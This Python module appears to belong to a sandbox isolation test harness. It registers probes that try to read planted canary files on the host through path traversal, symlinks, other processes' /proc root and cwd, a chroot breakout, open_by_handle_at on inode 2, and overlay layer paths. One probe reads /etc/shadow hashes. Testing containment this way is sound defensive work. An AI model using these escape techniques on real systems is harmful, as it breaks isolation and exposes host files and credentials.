"""Read files of the host through paths, links, handles and other processes."""

from __future__ import annotations

import contextlib
import ctypes
import os
import struct
from typing import Any, Optional, Tuple

from .base import HINTS, Absent, Call, add, any_of, attempt, below, canaries, each, processes, read, secret_in, syscall, target


def file_at(path: str) -> Optional[str]:
    return secret_in(read(path), path)


for _place, _path in sorted(HINTS["canaries"].items()):
    add(f"read_canary_in_{_place}", "files", file_at, _path)


@attempt("files")
def read_canary_by_dotdot_from_the_working_directory() -> Optional[str]:
    return below(os.getcwd())


@attempt("files")
def read_canary_by_a_symlink_in_the_working_directory() -> Optional[str]:
    def by(path: str) -> Call:
        def follow() -> Optional[str]:
            name = "probe-link"
            with contextlib.suppress(FileNotFoundError):
                os.unlink(name)
            os.symlink(path, name)
            try:
                return secret_in(read(name), name)
            finally:
                os.unlink(name)

        return follow

    return any_of(by(path) for path in canaries())


@attempt("files")
def read_canary_by_a_symlink_in_the_data() -> Optional[str]:
    return secret_in(read(HINTS["data"] + "/link-to-canary"), "link-to-canary")


@attempt("files")
def read_canary_by_a_relative_symlink_in_the_data() -> Optional[str]:
    return secret_in(read(HINTS["data"] + "/relative-link-to-canary"), "relative-link-to-canary")


@attempt("files")
def read_canary_by_dotdot_from_the_data() -> Optional[str]:
    return below(HINTS["data"])


@attempt("files")
def read_canary_by_dotdot_from_the_checkpoints() -> Optional[str]:
    return below(HINTS["checkpoints"])


@attempt("files")
def read_canary_by_dotdot_from_every_mount() -> Optional[str]:
    with open("/proc/self/mountinfo") as file:
        points = [line.split()[4] for line in file]
    return each(below, filter(os.path.isdir, points))


@attempt("files")
def read_canary_by_root_of_the_first_process() -> Optional[str]:
    return below(f"/proc/{target()}/root")


@attempt("files")
def read_canary_by_working_directory_of_the_first_process() -> Optional[str]:
    return below(f"/proc/{target()}/cwd")


@attempt("files")
def read_canary_by_root_of_every_process() -> Optional[str]:
    return each(lambda pid: below(f"/proc/{pid}/root"), processes()[-40:])


@attempt("files")
def read_canary_by_working_directory_of_every_process() -> Optional[str]:
    return each(lambda pid: below(f"/proc/{pid}/cwd"), processes()[-40:])


@attempt("files")
def read_canary_by_mapped_files_of_the_first_process() -> Optional[str]:
    directory = f"/proc/{target()}/map_files"
    return each(lambda name: below(f"{directory}/{name}/.."), os.listdir(directory)[:5])


@attempt("files")
def read_canary_by_chroot_and_dotdot() -> Optional[str]:
    os.makedirs("probe-chroot", exist_ok=True)
    up = os.open("/", os.O_RDONLY)
    os.chroot("probe-chroot")
    os.fchdir(up)
    for _ in range(60):
        os.chdir("..")
    os.chroot(".")
    return each(lambda path: secret_in(read(path), path), canaries())


def handle(path: str) -> "Tuple[int, Any]":
    """A descriptor of the mount, and the handle of `path` on its file system."""
    buffer = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128), 136)
    mount = ctypes.c_int()
    fd = os.open(path, os.O_RDONLY)
    syscall("name_to_handle_at", -100, ctypes.c_char_p(path.encode()), buffer, ctypes.byref(mount), 0)
    return fd, buffer


def open_handle(fd: int, inode: int) -> int:
    """Open by inode number, generation 0, as file systems of the ext family take it."""
    buffer = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0), 136)
    return syscall("open_by_handle_at", fd, buffer, os.O_RDONLY)


@attempt("files")
def open_the_data_by_its_handle() -> Optional[str]:
    fd, buffer = handle(HINTS["data"])
    return f"descriptor {syscall('open_by_handle_at', fd, buffer, os.O_RDONLY)}"


@attempt("files")
def open_the_host_root_by_handle_from_the_data() -> Optional[str]:
    fd = open_handle(os.open(HINTS["data"], os.O_RDONLY), 2)
    return f"inode 2 is open: {os.listdir(fd)[:4]}"


@attempt("files")
def open_the_host_root_by_handle_from_the_notes() -> Optional[str]:
    directory = os.path.dirname(os.environ.get("REPRO_ENV_REPORTS", ""))
    if not directory:
        raise Absent("no notes")
    fd = open_handle(os.open(directory, os.O_RDONLY), 2)
    return f"inode 2 is open: {os.listdir(fd)[:4]}"


@attempt("files")
def list_the_spec_directory() -> Optional[str]:
    found = os.listdir(HINTS["spec"])
    return f"{HINTS['spec']} holds {found[:3]}" if found else None


@attempt("files")
def list_the_runs_directory() -> Optional[str]:
    found = os.listdir(HINTS["runs"])
    return f"{HINTS['runs']} holds {found[:3]}" if found else None


@attempt("files")
def list_the_store() -> Optional[str]:
    found = os.listdir(HINTS["store"])
    return f"{HINTS['store']} holds {found[:3]}" if found else None


@attempt("files")
def list_the_directory_above_the_project() -> Optional[str]:
    found = [name for name in os.listdir(os.path.dirname(HINTS["project"])) if name in HINTS["beside_project"]]
    return f"{found}" if found else None


@attempt("files")
def read_an_ignored_file_of_the_project() -> Optional[str]:
    return file_at(HINTS["project"] + "/.git/secret-of-git")


@attempt("files")
def read_host_shadow_passwords() -> Optional[str]:
    with open("/etc/shadow", "rb") as file:
        lines = file.read().splitlines()
    found = [line for line in lines if len(line.split(b":")) > 1 and len(line.split(b":")[1]) > 4]
    return f"{len(found)} hashes" if found else None


@attempt("files")
def overlay_layers_by_their_descriptor_names() -> Optional[str]:
    """The kernel prints the layers of an overlay as /proc/self/fd/N; those numbers may still be open in the first process."""
    with open("/proc/self/mountinfo") as file:
        words = file.read().replace(",", " ").replace(":", " ").replace("=", " ").split()
    numbers = sorted({word.rsplit("/", 1)[1] for word in words if word.startswith("/proc/self/fd/")})
    if not numbers:
        raise Absent("no overlay names its layers by descriptors")
    return each(lambda n: below(f"/proc/1/fd/{n}"), numbers)


def readable_layers() -> Optional[str]:
    with open("/proc/self/mountinfo") as file:
        words = file.read().replace(",", " ").replace(":", " ").replace("=", " ").split()
    found = [word for word in words if word.startswith("/") and word.count("/") > 3 and os.path.isdir(word + "/..")]
    return each(below, found[:20])


add("read_canary_by_paths_named_in_mountinfo", "files", readable_layers)
